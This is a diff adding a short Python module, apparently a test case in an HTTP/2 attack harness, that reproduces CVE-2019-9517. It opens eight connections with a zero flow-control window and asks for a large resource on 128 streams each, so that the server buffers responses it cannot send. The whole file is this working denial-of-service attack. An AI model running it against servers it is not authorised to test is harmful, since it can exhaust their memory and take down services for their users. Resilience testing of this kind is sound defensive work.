@@ -1,0 +1,19 @@
+"""128 streams on each of eight connections, whose responses may not be sent: the
+window of every stream is 0 (CVE-2019-9517, internal data buffering, by windows)."""
+
+import frames
+from attack import Attack, still_open
+
+ATTACK = Attack(configurations=("deployments", "static"))
+CONNECTIONS, STREAMS = 8, 128
+
+
+async def run(target):
+    asked = b"".join(frames.request(1 + 2 * number, frames.head(b"/large")) for number in range(STREAMS))
+
+    async def begin(_):
+        return await target.http2(frames.opening({frames.INITIAL_WINDOW: 0}) + asked)
+
+    opened = await target.many(CONNECTIONS, begin)
+    await target.wait()
+    return f"{len(opened)} connections with {STREAMS} streams, {still_open(opened)} stayed"
